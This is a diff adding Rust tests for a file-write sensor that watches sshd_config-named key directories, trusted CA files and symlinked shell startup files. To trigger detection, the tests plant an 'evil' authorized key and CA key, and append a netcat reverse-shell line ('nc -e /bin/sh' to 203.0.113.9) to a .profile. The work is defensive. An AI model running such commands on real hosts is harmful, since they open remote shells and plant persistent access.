@@ -884,6 +884,154 @@ fn sshd_key_files_with_slots_left_are_matched_by_their_path_too() {
     );
 }
 
+/// sshd_config is read again when it or a file it includes changes: a
+/// keys directory and a CA named after the start are watched from the
+/// next refresh, with string slots for path arguments (a rename into the
+/// keys directory, decided by its path on this host), and a CA no longer
+/// named is no longer watched.
+#[test]
+fn sshd_config_edited_after_the_start_is_followed() {
+    let tree = Tree::new();
+    for d in ["etc/ssh/sshd_config.d", "etc/ssh/authorized_keys"] {
+        std::fs::create_dir_all(tree.path(d)).expect("mkdir");
+    }
+    let ssh = tree.path("etc/ssh");
+    let (config, ca) = (ssh.join("sshd_config"), ssh.join("user_ca.pub"));
+    std::fs::write(
+        &config,
+        format!(
+            "Include {}/sshd_config.d/*.conf\nPermitRootLogin no\n",
+            ssh.display()
+        ),
+    )
+    .expect("write");
+    std::fs::write(&ca, b"ssh-ed25519 AAAA ca\n").expect("write");
+    let sensor = Sensor::start(&format!(
+        "{}sshd_config = \"{}\"\n[ebpf]\ncounters_interval_ms = 200\n",
+        tree.config(),
+        config.display()
+    ));
+    let keys_dir = tree.path("etc/ssh/authorized_keys/");
+    let before = sh(
+        "echo 'ssh-ed25519 AAAA early' > etc/ssh/authorized_keys/dave",
+        &tree.root,
+    );
+
+    // Keys moved out of the homes, in the config itself (`keys_dir` ends
+    // in a slash: `…//%u`, which sshd reads as one); a CA trusted in a
+    // file added where it includes from.
+    sh(
+        &format!(
+            "echo 'AuthorizedKeysFile {}/%u' >> {}",
+            keys_dir.display(),
+            config.display()
+        ),
+        &tree.root,
+    );
+    std::fs::write(
+        ssh.join("sshd_config.d/10-ca.conf"),
+        format!("TrustedUserCAKeys {}\n", ca.display()),
+    )
+    .expect("write");
+    let dir_text = format!("{}/authorized_keys/", ssh.display());
+    wait_found_again(&sensor, "now also", Path::new(&dir_text));
+    wait_found_again(&sensor, "now also", &ca);
+
+    std::fs::write(tree.path("other/k"), b"ssh-ed25519 AAAA evil\n").expect("write");
+    let carol = tree.path("etc/ssh/authorized_keys/carol");
+    let mv = run(
+        "mv",
+        &[
+            tree.path("other/k").to_str().expect("utf-8"),
+            carol.to_str().expect("utf-8"),
+        ],
+        &tree.root,
+    );
+    let trust = sh(
+        "echo 'ssh-ed25519 BBBB evil-ca' >> etc/ssh/user_ca.pub",
+        &tree.root,
+    );
+    let text = |p: &Path| p.to_str().expect("utf-8").to_owned();
+    expect_writes(
+        &sensor,
+        [
+            (
+                "a key renamed into the keys directory named after the start",
+                "rename",
+                mv,
+                vec![
+                    ("sensor.file_write.new_path", text(&carol)),
+                    ("sensor.file_write.watched", dir_text.clone()),
+                    ("sensor.file_write.matched_by", "path".to_owned()),
+                ],
+            ),
+            (
+                "a CA added to the TrustedUserCAKeys named after the start",
+                "open_write",
+                trust,
+                vec![
+                    ("file.path", text(&ca)),
+                    ("sensor.file_write.watched", text(&ca)),
+                    ("sensor.file_write.matched_by", "inode".to_owned()),
+                ],
+            ),
+        ],
+    );
+
+    // The CA no longer trusted: its writes are nobody's business.
+    std::fs::write(ssh.join("sshd_config.d/10-ca.conf"), b"").expect("write");
+    wait_found_again(&sensor, "no longer", &ca);
+    let after = sh(
+        "echo 'ssh-ed25519 CCCC old-ca' >> etc/ssh/user_ca.pub",
+        &tree.root,
+    );
+    assert_quiet(
+        &sensor,
+        before,
+        "a key written before the config named its directory",
+    );
+    assert_quiet(&sensor, after, "a CA file no longer named");
+}
+
+/// An account added after the start is looked at for startup files that
+/// are symlinks: /etc/passwd and its home are sources, found again on
+/// the next refresh.
+#[test]
+fn an_account_added_after_the_start_has_its_startup_file_links_watched() {
+    let tree = Tree::new();
+    let sensor = Sensor::start(&format!(
+        "{}[ebpf]\ncounters_interval_ms = 200\n",
+        tree.config()
+    ));
+    let user = sensor_tests::audit::TestUser::create();
+    let home = home_of(&user.name);
+    let dotfiles = home.join("dotfiles");
+    std::fs::create_dir_all(&dotfiles).expect("mkdir");
+    std::fs::write(dotfiles.join("profile"), b"# managed\n").expect("write");
+    let _ = std::fs::remove_file(home.join(".profile"));
+    std::os::unix::fs::symlink("dotfiles/profile", home.join(".profile")).expect("symlink");
+    wait_refreshed(&sensor, &home.join(".profile"));
+
+    let through_link = sh("echo 'nc -e /bin/sh 203.0.113.9 4444 &' >> .profile", &home);
+    let target = std::fs::canonicalize(dotfiles.join("profile")).expect("target");
+    expect_writes(
+        &sensor,
+        [(
+            "an append to .profile, a symlink in a home made after the start",
+            "open_write",
+            through_link,
+            vec![
+                ("file.path", target.to_str().expect("utf-8").to_owned()),
+                (
+                    "sensor.file_write.watched",
+                    home.join(".profile").to_str().expect("utf-8").to_owned(),
+                ),
+                ("sensor.file_write.matched_by", "inode".to_owned()),
+            ],
+        )],
+    );
+}
+
 /// The default paths beyond the kernel's string slots are watched by
 /// inode: a file made in /etc/security/ (PAM's settings; one no module
 /// reads, removed at the end) is reported with the directory as watched.
@@ -1003,16 +1151,34 @@ fn expect_writes<'a>(
 /// Waits until the daemon logs that it brought the kernel's maps up to
 /// date for `path` (a refresh, on each counters tick).
 fn wait_refreshed(sensor: &Sensor, path: &Path) {
-    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
-    let named = |l: &String| {
+    wait_logged(sensor, path, |l| {
         l.contains("watched paths with a new inode")
             && l.split([' ', ';']).any(|w| Path::new(w) == path)
-    };
-    while !sensor.stderr().iter().any(named) {
+    });
+}
+
+/// Waits until the daemon logs that it found the watched paths again
+/// (a source changed) and `part` ("now also", "no longer") names `path`.
+fn wait_found_again(sensor: &Sensor, part: &str, path: &Path) {
+    wait_logged(sensor, path, |l| {
+        l.contains("watched paths found again")
+            && l.split(';').any(|seg| {
+                seg.split_once(part)
+                    .is_some_and(|(_, rest)| rest.split(' ').any(|w| Path::new(w) == path))
+            })
+    });
+}
+
+/// Waits (5 s at most) for a line of the sensor's log that `named` holds
+/// (`path` is what it names, for the failure).
+fn wait_logged(sensor: &Sensor, path: &Path, named: impl Fn(&String) -> bool) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(5);
+    while !sensor.stderr().iter().any(&named) {
         assert!(
             std::time::Instant::now() < deadline,
-            "no refresh of the kernel maps named {}",
-            path.display()
+            "no refresh named {}: {:#?}",
+            path.display(),
+            sensor.stderr()
         );
         std::thread::sleep(std::time::Duration::from_millis(50));
     }
